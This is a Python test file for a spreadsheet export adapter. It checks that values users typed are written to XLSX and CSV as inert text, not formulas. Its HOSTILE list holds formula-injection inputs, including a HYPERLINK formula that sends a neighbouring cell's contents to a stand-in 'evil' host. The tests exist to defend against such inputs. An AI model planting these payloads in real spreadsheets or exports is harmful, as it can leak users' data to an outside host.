"""Tables for a spreadsheet: what somebody typed stays text, whatever it begins with or holds."""

import csv
import re
from collections.abc import Sequence
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest

from fieldsvc.adapters import xlsx
from fieldsvc.adapters.xlsx import Cell, write_csv, write_xlsx

HOSTILE = [
    "=1+1",
    "-1+1",
    "\t=1+1",
    "\n=1+1",
    "＝1+1",
    '=HYPERLINK("http://evil/?"&A2,"ok")',
    "'=1+1",
    "\x01\x0b illegal",
    "-31612345678",
    "http://evil.example",
    "{=1+1}",
    "007",
    "<b>&amp;",
    "_x0041_",
]
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def cells(content: bytes, sheet: int = 1) -> list[tuple[str, str]]:
    """The kind and the text of every cell of a sheet."""
    with ZipFile(BytesIO(content)) as book:
        tree = ElementTree.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml"))
    found = []
    for cell in tree.iter(f"{SHEET}c"):
        assert cell.find(f"{SHEET}f") is None, "a formula"
        found.append((cell.get("t", "n"), "".join(cell.itertext())))
    return found


def written(head: Sequence[str], rows: Sequence[Sequence[Cell]], name: str = "Answers") -> bytes:
    file = BytesIO()
    write_xlsx(file, name, head, rows)
    return file.getvalue()


def test_what_was_typed_is_text_whatever_it_begins_with() -> None:
    content = written(["=head"], [[text] for text in HOSTILE])
    kinds, texts = zip(*cells(content), strict=True)
    assert set(kinds) == {"inlineStr"}
    assert texts[0] == "=head"
    readable = [re.sub("[\x01\x0b]", "\ufffd", text) for text in HOSTILE]
    assert [as_shown(text) for text in texts[1:]] == readable
    assert b"hyperlink" not in content


def test_numbers_and_dates_are_numbers() -> None:
    row: list[Cell] = [7, 2.5, date(2026, 11, 23), datetime(2026, 11, 23, 12, 0, tzinfo=UTC), None, ""]
    found = cells(written(["a"], [row]))[1:]
    assert [kind for kind, _text in found[:4]] == ["n"] * 4
    assert [text for _kind, text in found[:4]] == ["7", "2.5", "46349", "46349.5"]
    assert len(found) == 5


def test_a_table_longer_than_a_sheet_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "MOST_ROWS", 4)
    content = written(["n"], [[str(number)] for number in range(7)], name="[Very] long: name of a form / with signs")
    assert [text for _kind, text in cells(content, 1)] == ["n", "0", "1", "2"]
    assert [text for _kind, text in cells(content, 3)] == ["n", "6"]


def test_a_text_too_long_for_a_cell_is_cut() -> None:
    [_head, (_kind, text)] = cells(written(["a"], [["x" * 40_000]]))
    assert len(text) == 32_767


def test_no_rows_are_a_sheet_with_its_head() -> None:
    assert [text for _kind, text in cells(written(["a", "b"], []))] == ["a", "b"]


def test_in_csv_nothing_begins_a_formula() -> None:
    text = "".join(write_csv(["a", "b"], [[one, 3] for one in HOSTILE]))
    assert text.startswith("\ufeffa,b\r\n")
    read = list(csv.reader(StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    assert [row[1] for row in read] == ["3"] * len(HOSTILE)
    for typed, [kept, _number] in zip(HOSTILE, read, strict=True):
        assert kept.lstrip("'") == typed.lstrip("'")
        assert not kept.startswith(xlsx.BEGINS_A_FORMULA)


def as_shown(text: str) -> str:
    """A cell's text as a spreadsheet shows it: `_x005F_` is an underscore."""
    return re.sub("_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)
